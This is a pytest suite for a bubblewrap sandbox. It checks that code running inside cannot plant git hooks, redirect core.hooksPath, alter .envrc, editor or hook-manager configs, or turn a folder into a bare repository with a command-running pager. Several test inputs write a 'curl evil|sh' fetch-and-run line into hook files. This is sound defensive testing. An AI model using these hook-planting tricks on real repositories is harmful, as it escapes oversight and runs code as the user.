"""F4 and F5 attacked with real bubblewrap and real git: dot files of written folders.

Each test makes a real repository (git init, a commit), runs a sandbox that writes its
folder, tries from inside what an attacker would, and checks that the folder is, byte for
byte, what it was (no stand-in left, no dot file changed) unless the test says what
the program was allowed to leave.
"""

from __future__ import annotations

import hashlib
import os
import signal
import stat
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from lnk_wrap import standins
from tests.conftest import (
    LNK_SANDBOX,
    SANDBOX_TIMEOUT_SECONDS,
    RunSandbox,
    WriteSpec,
    end_run,
    toml_list,
    wait_until,
)
from tests.test_files_attacks import Q, attack, files_spec, opened

GIT_ID = ["-c", "user.email=test@example.invalid", "-c", "user.name=test"]


def git(folder: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(folder), *GIT_ID, *args], capture_output=True,
                          text=True, check=True, env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1"})
    return done.stdout


def make_repository(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    git(folder, "init", "-q")
    (folder / "f").write_text("one\n")
    git(folder, "add", "f")
    git(folder, "commit", "-qm", "one")
    return folder


def listing(folder: Path) -> dict[str, str]:
    """Every path below `folder`: kind, mode and content digest (what `ls -laR` and a
    checksum would show), so any change, made or removed entry is seen."""
    found: dict[str, str] = {}
    for root, folders, files in os.walk(folder):
        for name in folders + files:
            path = os.path.join(root, name)
            info = os.lstat(path)
            key = os.path.relpath(path, folder)
            if stat.S_ISLNK(info.st_mode):
                found[key] = f"link {os.readlink(path)}"
            elif stat.S_ISDIR(info.st_mode):
                found[key] = f"dir {oct(info.st_mode)}"
            else:
                digest = hashlib.sha256(Path(path).read_bytes()).hexdigest()
                found[key] = f"file {oct(info.st_mode)} {digest}"
    return found


def assert_no_standin_left(folder: Path, *names: str) -> None:
    for name in names or (".git", ".vscode", ".idea", ".husky"):
        assert not (folder / name).exists(), f"left behind: {name}"


def index_of(sandbox_env: dict[str, str]) -> list[tuple[str, str, list[str]]]:
    return list(standins.index_entries(sandbox_env["LNK_HOME"]))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_repository(tmp_path / "project")


def _write_spec_for(write_spec: WriteSpec, *folders: Path, extra: str = "") -> Path:
    return write_spec(files_spec(write=folders, extra=extra))


# -- F4: what is held at the top of a written folder -------------------------------------


def test_F4_dot_files_of_a_written_repository_are_read_only(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    (project / ".envrc").write_text("export A=1\n")
    (project / ".vscode").mkdir()
    (project / ".vscode" / "tasks.json").write_text("{}\n")
    (project / ".husky").mkdir()
    (project / ".husky" / "pre-commit").write_text("npm test\n")
    (project / ".pre-commit-config.yaml").write_text("repos: []\n")
    (project / "lefthook.yml").write_text("pre-commit: {}\n")
    before = listing(project)
    p = Q(str(project))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "write a hook": f"echo 'curl evil|sh' > {p}/.git/hooks/pre-commit",
        "chmod a hook": f"chmod +x {p}/.git/hooks/pre-commit.sample",
        "git config hooksPath": f"git -C {p} config core.hooksPath /tmp",
        "append git config": f"echo '[core]' >> {p}/.git/config",
        "write commondir": f"echo /tmp > {p}/.git/commondir",
        "remove .git": f"rm -rf {p}/.git",
        "rename .git": f"mv {p}/.git {p}/old-git",
        "append .envrc": f"echo evil >> {p}/.envrc",
        "remove .envrc": f"rm -f {p}/.envrc",
        "rename .envrc": f"mv {p}/.envrc {p}/envrc.old",
        "write vscode task": f"echo evil > {p}/.vscode/tasks.json",
        "add vscode settings": f"echo '{{}}' > {p}/.vscode/settings.json",
        "write husky script": f"echo evil >> {p}/.husky/pre-commit",
        "write pre-commit config": f"echo evil >> {p}/.pre-commit-config.yaml",
        "write lefthook config": f"echo evil >> {p}/lefthook.yml",
        "git commit": f"git -C {p} -c user.email=a@b -c user.name=a commit -qam x",
    })
    assert opened(found) == []
    assert listing(project) == before


def test_F4_reading_a_repository_still_works(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    (project / "f").write_text("two\n")
    before = listing(project)
    spec = _write_spec_for(write_spec, project)
    for command in (["status", "--short"], ["diff"], ["log", "--oneline"],
                    ["show", "--stat", "HEAD"], ["blame", "f"]):
        result = run_sandbox(spec, "git", "-C", str(project), *command)
        assert result.returncode == 0, (command, result.stderr)
    status = run_sandbox(spec, "git", "-C", str(project), "status", "--short")
    assert status.stdout.strip() == "M f"
    assert "+two" in run_sandbox(spec, "git", "-C", str(project), "diff").stdout
    assert listing(project) == before


def test_F4_ordinary_files_and_build_files_stay_writable(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    p = Q(str(project))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "write a file": f"echo y > {p}/g",
        "write a Makefile": f"echo 'all:' > {p}/Makefile",
        "write package.json": f"echo '{{}}' > {p}/package.json",
        "a dev container": f"mkdir -p {p}/.devcontainer && echo '{{}}' > {p}/.devcontainer/x",
        "a nested repository": f"git init -q {p}/sub && git -C {p}/sub config core.x y",
        "other dot files": f"echo x > {p}/.editorconfig && mkdir {p}/.cache",
    })
    assert opened(found) == sorted(found)
    assert_no_standin_left(project, ".vscode", ".idea", ".husky")


@pytest.mark.parametrize("name", [".git", ".vscode", ".idea", ".husky"])
def test_F4_missing_dot_folder_cannot_be_made_and_is_not_left(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, name: str
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "f").write_text("x\n")
    before = listing(folder)
    target = Q(str(folder / name))
    found = attack(run_sandbox, _write_spec_for(write_spec, folder), {
        "mkdir": f"mkdir {target}",
        "mkdir -p inside": f"mkdir -p {target}/x",
        "file inside": f"echo x > {target}/x",
        "replace by a file": f"rmdir {target} || rm -rf {target}; echo x > {target}",
        "replace by a link": f"rm -rf {target}; ln -s /tmp {target}",
        "git init" if name == ".git" else "touch": (
            f"git init -q {Q(str(folder))}" if name == ".git" else f"touch {target}/y"),
    })
    assert opened(found) == []
    assert listing(folder) == before


def test_F4_a_missing_envrc_is_left_alone_on_linux(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    spec = _write_spec_for(write_spec, folder)
    result = run_sandbox(spec, "/bin/sh", "-c", f"echo 'export A=1' > {Q(str(folder))}/.envrc")
    assert result.returncode == 0, result.stderr
    # direnv runs a new .envrc only once the person allows it; the next run holds it.
    assert (folder / ".envrc").read_text() == "export A=1\n"
    again = run_sandbox(spec, "/bin/sh", "-c", f"echo evil >> {Q(str(folder))}/.envrc")
    assert again.returncode != 0
    assert (folder / ".envrc").read_text() == "export A=1\n"
    assert sorted(os.listdir(folder)) == [".envrc"]


def test_F4_only_the_top_is_held(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    nested = make_repository(project / "clone")
    n = Q(str(nested))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "nested hook": f"echo x > {n}/.git/hooks/pre-commit",
        "nested commit": f"echo y > {n}/g && git -C {n} add g && "
                         f"git -C {n} -c user.email=a@b -c user.name=a commit -qm y",
        "nested vscode": f"mkdir {n}/.vscode",
    })
    assert opened(found) == sorted(found)
    assert_no_standin_left(project, ".vscode", ".idea", ".husky")


# -- what git's settings name ---------------------------------------------------------------


def test_F4_nested_hooks_folder_held_its_parents_pinned_but_writable(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    hooks = project / "scripts" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    git(project, "config", "core.hooksPath", "scripts/hooks")
    before = listing(project)
    p = Q(str(project))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "write the hook": f"echo evil >> {p}/scripts/hooks/pre-commit",
        "add a hook": f"echo evil > {p}/scripts/hooks/post-checkout",
        "rename the hooks folder": f"mv {p}/scripts/hooks {p}/scripts/old",
        "rename its parent": f"mv {p}/scripts {p}/scripts-old",
        "remove its parent": f"rm -rf {p}/scripts",
    })
    assert opened(found) == []
    assert listing(project) == before
    # The folders above stay writable otherwise: scripts/hooks does not close scripts.
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "write beside the hooks": f"echo ok > {p}/scripts/build.sh",
    })
    assert opened(found) == ["write beside the hooks"]


def test_F4_missing_hooks_folder_named_by_git_gets_a_standin(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    git(project, "config", "core.hooksPath", "tools/githooks")
    before = listing(project)
    p = Q(str(project))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "make the hooks folder": f"mkdir -p {p}/tools/githooks && echo x > {p}/tools/githooks/x",
        "make its parent": f"mkdir {p}/tools",
    })
    assert opened(found) == []
    assert listing(project) == before


def test_F4_included_settings_files_are_held_and_missing_ones_kept_empty(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, tmp_path: Path
) -> None:
    (project / "shared.gitconfig").write_text("[alias]\n\tst = status\n")
    git(project, "config", "--add", "include.path", "../shared.gitconfig")
    git(project, "config", "--add", "includeIf.gitdir:/nowhere/.path", "../conditional.inc")
    git(project, "config", "--add", "include.path", "../missing.inc")
    before = listing(project)
    p = Q(str(project))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "write the include": f"echo '[core]hooksPath=/tmp' >> {p}/shared.gitconfig",
        "make the conditional include": f"echo '[core]hooksPath=/tmp' > {p}/conditional.inc",
        "make the missing include": f"echo '[core]hooksPath=/tmp' > {p}/missing.inc",
        "remove the include": f"rm -f {p}/shared.gitconfig",
    })
    assert opened(found) == []
    # An empty file stands in for a missing include (git reads it as no settings, where
    # a folder would make every git command fail), so git still works inside.
    status = run_sandbox(_write_spec_for(write_spec, project), "git", "-C", str(project),
                         "st", "--short")
    assert status.returncode == 0, status.stderr
    assert listing(project) == before


def test_F4_a_hook_that_links_into_the_work_tree_has_its_target_held(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    script = project / "scripts" / "pre-commit.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\nexit 0\n")
    (project / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit.sh")
    before = listing(project)
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "write the linked hook": f"echo evil >> {Q(str(script))}",
    })
    assert opened(found) == []
    assert listing(project) == before


def test_F4_hook_manager_settings_get_standins_once_a_hook_runs_the_manager(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    hook = project / ".git" / "hooks" / "pre-commit"
    hook.write_text('#!/bin/sh\nexec pre-commit hook-impl --config=ci/precommit.yaml "$@"\n'
                    "# lefthook run pre-commit\n")
    hook.chmod(0o755)
    (project / "ci").mkdir()
    before = listing(project)
    p = Q(str(project))
    attempts = {
        "make .pre-commit-config.yaml": f"echo x > {p}/.pre-commit-config.yaml",
        "make the baked-in config": f"echo x > {p}/ci/precommit.yaml",
        "make lefthook.yml": f"echo x > {p}/lefthook.yml",
        "make .lefthook.toml": f"echo x > {p}/.lefthook.toml",
        "make lefthook-local.yml": f"echo x > {p}/lefthook-local.yml",
        "make .config/lefthook.yml": f"mkdir -p {p}/.config && echo x > {p}/.config/lefthook.yml",
        "make a lefthook script": f"mkdir -p {p}/.lefthook/pre-commit && echo x > "
                                  f"{p}/.lefthook/pre-commit/x.sh",
    }
    found = attack(run_sandbox, _write_spec_for(write_spec, project), attempts)
    assert opened(found) == []
    assert listing(project) == before


def test_F4_without_a_hook_manager_its_missing_settings_are_not_placeheld(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    p = Q(str(project))
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "make lefthook.yml": f"echo x > {p}/lefthook.yml",
    })
    # No hook git runs names lefthook, and .git is held: nothing can run it from here.
    assert opened(found) == ["make lefthook.yml"]
    assert_no_standin_left(project, ".vscode", ".idea", ".husky")


def test_F4_worktree_gitdir_and_commondir_are_followed(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    area = tmp_path / "area"
    main = make_repository(area / "main")
    worktree = tmp_path / "wt"
    git(main, "worktree", "add", "-q", str(worktree))
    assert (worktree / ".git").is_file()
    before = listing(area)
    m = Q(str(main))
    # The work tree is written, and so is the folder holding the main repository (where
    # the main repository is the agent's own work, but its settings run in the work tree).
    found = attack(run_sandbox, _write_spec_for(write_spec, worktree, area), {
        "main's config": f"echo '[core]' >> {m}/.git/config",
        "main's hooks": f"echo evil > {m}/.git/hooks/pre-commit",
        "the worktree's gitdir": f"echo x > {m}/.git/worktrees/wt/config.worktree",
        "commondir": f"echo /tmp > {m}/.git/worktrees/wt/commondir",
        "the .git file": f"echo 'gitdir: /tmp' > {Q(str(worktree))}/.git",
    })
    assert opened(found) == []
    assert listing(area) == before
    status = run_sandbox(_write_spec_for(write_spec, worktree, area), "git", "-C",
                         str(worktree), "status", "--short")
    assert status.returncode == 0, status.stderr


def test_F4_the_persons_own_relative_hooks_folder_is_held_in_each_repository(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, sandbox_env: dict[str, str],
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[core]\n\thooksPath = .githooks\n")
    env = {**sandbox_env, "HOME": str(home)}
    before = listing(project)
    found = attack(run_sandbox, _write_spec_for(write_spec, project), {
        "make .githooks": f"mkdir {Q(str(project))}/.githooks",
    }, env=env)
    assert opened(found) == []
    assert listing(project) == before


def test_F4_a_written_folder_inside_a_repository_holds_what_that_repository_names(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    sub = project / "sub"
    (sub / "hooks").mkdir(parents=True)
    git(project, "config", "core.hooksPath", "sub/hooks")
    found = attack(run_sandbox, _write_spec_for(write_spec, sub), {
        "hook of the enclosing repository": f"echo evil > {Q(str(sub))}/hooks/pre-commit",
    })
    assert opened(found) == []
    assert not (sub / "hooks" / "pre-commit").exists()


# -- refusals before anything runs -----------------------------------------------------------


@pytest.mark.parametrize("how", ["dot git", "vscode", "hooks parent"])
def test_F4_a_link_where_git_or_an_editor_reads_is_refused(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, tmp_path: Path, how: str
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    if how == "dot git":
        # Replaced between runs: the next run refuses rather than hold the link's target
        # and leave the link itself open to being pointed elsewhere.
        os.rename(project / ".git", elsewhere / "git")
        (project / ".git").symlink_to(elsewhere / "git")
    elif how == "vscode":
        (project / ".vscode").symlink_to(elsewhere)
    else:
        (elsewhere / "hooks").mkdir()
        (project / "scripts").symlink_to(elsewhere)
        git(project, "config", "core.hooksPath", "scripts/hooks")
    before = listing(project)
    marker = tmp_path / "ran"
    result = run_sandbox(_write_spec_for(write_spec, project), "/bin/sh", "-c",
                         f"touch {Q(str(marker))}")
    assert result.returncode == 125
    assert "is a link" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert not marker.exists()
    assert listing(project) == before


def test_F4_git_settings_git_would_refuse_refuse_the_run(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    with open(project / ".git" / "config", "a") as handle:
        handle.write('[core "unterminated\n')
    result = run_sandbox(_write_spec_for(write_spec, project), "true")
    assert result.returncode == 125
    assert f"{project}/.git/config" in result.stderr and "line" in result.stderr


# -- write_dot_files -----------------------------------------------------------------------


def test_F4_write_dot_files_lets_a_commit_through_and_says_so_on_first_run(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, tmp_path: Path
) -> None:
    held = _write_spec_for(write_spec, project)
    (project / "f").write_text("two\n")
    commit = ["git", "-C", str(project), *GIT_ID, "commit", "-qam", "two"]
    refused = run_sandbox(held, *commit)
    assert refused.returncode != 0
    assert "Read-only file system" in refused.stderr
    opened_spec = _write_spec_for(write_spec, project,
                                  extra=f"write_dot_files = {toml_list(project)}\n")
    first = run_sandbox(opened_spec, *commit)
    assert first.returncode == 0, first.stderr
    assert git(project, "log", "--oneline").count("\n") == 2
    assert f"first run of {opened_spec}" in first.stderr and str(project) in first.stderr
    # Known by content: the second run and a copy under another name say nothing …
    second = run_sandbox(opened_spec, "true", cwd=project)
    copy = tmp_path / "renamed.toml"
    copy.write_text(opened_spec.read_text())
    renamed = run_sandbox(copy, "true", cwd=project)
    assert (second.stderr, renamed.stderr) == ("", "")
    # … and an edited one is new.
    (tmp_path / "other").mkdir()
    edited = _write_spec_for(write_spec, project, tmp_path / "other",
                             extra=f"write_dot_files = {toml_list(project)}\n")
    assert "first run of" in run_sandbox(edited, "true").stderr


def test_F4_an_agents_own_folder_has_its_dot_files_open_its_files_folder_does_not(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    home = make_repository(tmp_path / "agent-home")
    files = make_repository(tmp_path / "agent-files")
    spec = write_spec(f'[agent]\nname = "bob"\nhome = "{home}"\nfiles = "{files}"\n')
    found = attack(run_sandbox, spec, {
        "commit in its own folder": f"cd {Q(str(home))} && echo y > g && git add g && "
                                    "git -c user.email=a@b -c user.name=a commit -qm y",
        "commit in its files folder": f"cd {Q(str(files))} && echo y > g && git add g && "
                                      "git -c user.email=a@b -c user.name=a commit -qm y",
        "make .vscode in its files folder": f"mkdir {Q(str(files))}/.vscode",
    })
    assert opened(found) == ["commit in its own folder"]
    assert_no_standin_left(files, ".vscode", ".idea", ".husky")


# -- F5: stand-ins and the runs holding them ----------------------------------------------


_STARTED: list[subprocess.Popen[str]] = []


@pytest.fixture(autouse=True)
def _no_run_outlives_its_test() -> Iterator[None]:
    """A test that fails while a run waits on its gate must not leave the run behind."""
    yield
    while _STARTED:
        end_run(_STARTED.pop())


def _start(spec: Path, env: dict[str, str], *command: str) -> subprocess.Popen[str]:
    run = subprocess.Popen([LNK_SANDBOX, "run", "--spec", str(spec), "--", *command],
                           env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    _STARTED.append(run)
    return run


def _gated_spec(write_spec: WriteSpec, folder: Path, gates: Path) -> Path:
    """A spec writing `folder` that can see `gates`, where the test opens the gates."""
    gates.mkdir(exist_ok=True)
    return write_spec(files_spec(write=(folder,), read=(gates,)))


def _held_open(spec: Path, env: dict[str, str], gate: Path) -> subprocess.Popen[str]:
    """A run that stays until the test makes `gate` (in a folder the spec reads); its
    first line out, "running", says the sandbox has started (see `_running`)."""
    return _start(spec, env, "/bin/sh", "-c",
                  f"echo running; while [ ! -e {Q(str(gate))} ]; do sleep 0.02; done")


def _running(run: subprocess.Popen[str]) -> None:
    """Wait until a `_held_open` run's command is running: before that, the launcher
    is still mounting the stand-ins, and a folder changed under it then stops the
    start (a clear refusal, exit 125), not what the tests that tamper look at."""
    assert run.stdout is not None
    line = run.stdout.readline()
    assert line == "running\n", (line, run.stderr.read() if run.stderr else "")


@pytest.mark.parametrize("first_to_end", ["long", "short"])
def test_F5_two_runs_on_one_folder_ending_in_either_order(
    tmp_path: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], first_to_end: str
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    before = listing(folder)
    spec = _gated_spec(write_spec, folder, tmp_path / "gates")
    gate_one, gate_two = tmp_path / "gates" / "one", tmp_path / "gates" / "two"
    run_one = _held_open(spec, sandbox_env, gate_one)
    wait_until(lambda: (folder / ".vscode").is_dir(), "the first run's stand-ins")
    run_two = _start(spec, sandbox_env, "/bin/sh", "-c",
                     f"while [ ! -e {Q(str(gate_two))} ]; do sleep 0.02; done; "
                     f"mkdir {Q(str(folder))}/.vscode/x")
    wait_until(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
              "the second run to join")
    (gate_one if first_to_end == "long" else gate_two).touch()
    first = run_one if first_to_end == "long" else run_two
    second = run_two if first == run_one else run_one
    first.wait(SANDBOX_TIMEOUT_SECONDS)
    # The other run still holds every stand-in: none was removed from under it.
    assert (folder / ".vscode").is_dir() and (folder / ".git").is_dir()
    assert all(len(runs) == 1 for _, _, runs in index_of(sandbox_env))
    (gate_two if first_to_end == "long" else gate_one).touch()
    second.wait(SANDBOX_TIMEOUT_SECONDS)
    assert run_two.returncode != 0  # mkdir inside the stand-in was refused
    assert listing(folder) == before
    assert index_of(sandbox_env) == []


@pytest.mark.parametrize(("name", "tamper", "said"), [
    (".idea", "fill", "was changed during the run"),
    (".husky", "replace", "is no longer the placeholder made for the run"),
])
def test_F5_a_standin_changed_outside_is_left_as_it_is(
    tmp_path: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], name: str,
    tamper: str, said: str,
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    gate = tmp_path / "gates" / "open"
    run = _held_open(_gated_spec(write_spec, folder, gate.parent), sandbox_env, gate)
    _running(run)
    assert (folder / name).is_dir()
    if tamper == "fill":  # the person's editor writes into it, outside the sandbox
        (folder / name / "workspace.xml").write_text("the person's\n")
    else:  # swapped for another empty folder: empty, but not the one made
        os.rename(folder / name, tmp_path / "moved")
        (folder / name).mkdir()
    gate.touch()
    _, stderr = run.communicate(timeout=SANDBOX_TIMEOUT_SECONDS)
    assert run.returncode == 0
    assert f"{folder}/{name} {said}" in stderr or f"placeholder {folder}/{name} {said}" in stderr
    assert sorted(os.listdir(folder)) == [name]
    if tamper == "fill":
        assert (folder / name / "workspace.xml").read_text() == "the person's\n"
    assert index_of(sandbox_env) == []


def test_F5_a_run_killed_outright_is_cleaned_up_by_the_next_run(
    tmp_path: Path, write_spec: WriteSpec, sandbox_env: dict[str, str],
    run_sandbox: RunSandbox,
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    before = listing(folder)
    spec = _write_spec_for(write_spec, folder)
    launcher = subprocess.Popen(
        [LNK_SANDBOX.replace("lnk-sandbox", "lnk-sandbox-launch"), "--settings",
         sandbox_env["LNK_HOME"], "--write", str(folder), "--", "/bin/sleep", "60"],
        env=sandbox_env)
    wait_until(lambda: (folder / ".git").is_dir(), "the stand-ins")
    launcher.send_signal(signal.SIGKILL)
    launcher.wait(SANDBOX_TIMEOUT_SECONDS)
    assert (folder / ".git").is_dir()  # left by the killed run …
    assert index_of(sandbox_env) != []
    # … the next run on any folder sweeps it: its stand-ins go once it ends.
    other = tmp_path / "other"
    other.mkdir()
    (other / ".git").mkdir()
    (other / ".vscode").mkdir()
    (other / ".idea").mkdir()
    (other / ".husky").mkdir()
    result = run_sandbox(_write_spec_for(write_spec, other), "true")
    assert result.returncode == 0, result.stderr
    assert listing(folder) == before
    assert index_of(sandbox_env) == []
    assert os.listdir(Path(sandbox_env["LNK_HOME"]) / "sandbox" / "runs") == []
    del spec


def test_F5_nothing_inside_can_reach_the_standins_index(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox, sandbox_env: dict[str, str]
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    settings = Q(sandbox_env["LNK_HOME"])
    found = attack(run_sandbox, _write_spec_for(write_spec, folder), {
        "read the index": f"cat {settings}/sandbox/placeholders/index",
        "list the runs": f"ls {settings}/sandbox/runs",
    })
    assert opened(found) == []


def test_F5_a_second_run_joins_a_nested_standin_instead_of_making_inside_it(
    project: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], tmp_path: Path
) -> None:
    git(project, "config", "core.hooksPath", "tools/githooks")
    before = listing(project)
    spec = _gated_spec(write_spec, project, tmp_path / "gates")
    gate_one, gate_two = tmp_path / "gates" / "one", tmp_path / "gates" / "two"
    run_one = _held_open(spec, sandbox_env, gate_one)
    wait_until(lambda: (project / "tools").is_dir(), "the first run's stand-in")
    run_two = _held_open(spec, sandbox_env, gate_two)
    wait_until(lambda: any(len(runs) == 2 for _, _, runs in index_of(sandbox_env)),
              "the second run to join")
    assert os.listdir(project / "tools") == []  # joined, not made inside
    gate_one.touch()
    run_one.wait(SANDBOX_TIMEOUT_SECONDS)
    assert (project / "tools").is_dir()
    gate_two.touch()
    run_two.wait(SANDBOX_TIMEOUT_SECONDS)
    assert (run_one.returncode, run_two.returncode) == (0, 0)
    assert listing(project) == before
    assert index_of(sandbox_env) == []


# -- F8: concurrent runs hold what one run alone holds ----------------------------------------


def _enclosing_repository_naming(project: Path, kind: str) -> tuple[Path, Path]:
    """A written folder `sub` of the repository `project`, whose settings name something
    that runs as the person and lies inside `sub`; returns (sub, that file)."""
    written = project / "sub"
    written.mkdir()
    if kind == "hooks folder":
        (written / "tools" / "hooks").mkdir(parents=True)
        git(project, "config", "core.hooksPath", "sub/tools/hooks")
        return written, written / "tools" / "hooks" / "pre-commit"
    if kind == "husky in a sub-folder":
        husky = written / "web" / ".husky"
        (husky / "_").mkdir(parents=True)
        (husky / "_" / "pre-commit").write_text('#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n')
        (husky / "pre-commit").write_text("npm test\n")
        git(project, "config", "core.hooksPath", "sub/web/.husky/_")
        return written, husky / "pre-commit"
    (written / "gitconfig").write_text("[user]\n\tname = someone\n")
    git(project, "config", "include.path", "../sub/gitconfig")
    return written, written / "gitconfig"


@pytest.mark.parametrize("runs", ["alone", "beside another run"])
@pytest.mark.parametrize("kind", ["hooks folder", "husky in a sub-folder", "included settings"])
def test_F8_the_enclosing_repositorys_hooks_are_held_whatever_other_runs_hold(
    project: Path, write_spec: WriteSpec, sandbox_env: dict[str, str], tmp_path: Path,
    kind: str, runs: str,
) -> None:
    written, target = _enclosing_repository_naming(project, kind)
    before = listing(project)
    spec = _gated_spec(write_spec, written, tmp_path / "gates")
    gate = tmp_path / "gates" / "one"
    if runs == "beside another run":
        # The first run's empty .git stand-in at the written folder's top is what
        # the second run sees there: not a repository (git passes over it), so the
        # enclosing one is still the one held.
        first = _held_open(spec, sandbox_env, gate)
        wait_until(lambda: (written / ".git").is_dir(), "the first run's stand-in")
    attempt = _start(spec, sandbox_env, "/bin/sh", "-c",
                     f"echo 'curl evil | sh' >> {Q(str(target))}")
    _, stderr = attempt.communicate(timeout=SANDBOX_TIMEOUT_SECONDS)
    assert attempt.returncode != 0
    assert "Read-only file system" in stderr, stderr
    if runs == "beside another run":
        gate.touch()
        first.wait(SANDBOX_TIMEOUT_SECONDS)
        assert first.returncode == 0
    assert listing(project) == before
    assert index_of(sandbox_env) == []


def test_F8_a_written_repository_inside_another_still_has_the_outer_ones_hooks_held(
    project: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    # git run at the outer repository's top runs its hooks wherever they lie, even in a
    # folder that is a repository of its own (not a submodule: cloned into it).
    written, target = _enclosing_repository_naming(project, "hooks folder")
    make_repository(written)
    before = listing(project)
    found = attack(run_sandbox, _write_spec_for(write_spec, written), {
        "outer repository's hook": f"echo evil > {Q(str(target))}",
        "own repository's hook": f"echo evil > {Q(str(written))}/.git/hooks/pre-commit",
    })
    assert opened(found) == []
    assert listing(project) == before


def test_F4_a_written_folder_cannot_be_made_a_bare_repository_at_its_top(
    tmp_path: Path, write_spec: WriteSpec, run_sandbox: RunSandbox
) -> None:
    # git, finding no valid .git in a folder (none, or a stand-in it passes over),
    # takes the folder itself for a bare repository once it holds HEAD, objects/ and
    # refs/, and runs what its config names (core.pager on the person's `git log`).
    folder = tmp_path / "plain"
    folder.mkdir()
    before = listing(folder)
    f = Q(str(folder))
    found = attack(run_sandbox, _write_spec_for(write_spec, folder), {
        "plant a bare repository": (
            f"mkdir -p {f}/objects {f}/refs && printf '[core]\\n\\tpager = touch pwned\\n' "
            f"> {f}/config && echo 'ref: refs/heads/main' > {f}/HEAD"),
    })
    assert opened(found) == []
    assert not (folder / "HEAD").exists()
    found_by_git = subprocess.run(["git", "-C", str(folder), "rev-parse", "--absolute-git-dir"],
                                  capture_output=True, text=True, check=False)
    assert found_by_git.stdout.strip() != str(folder)
    for name in ("objects", "refs"):  # what it could make: plain folders, git passes over
        (folder / name).rmdir()
    (folder / "config").unlink()
    assert listing(folder) == before
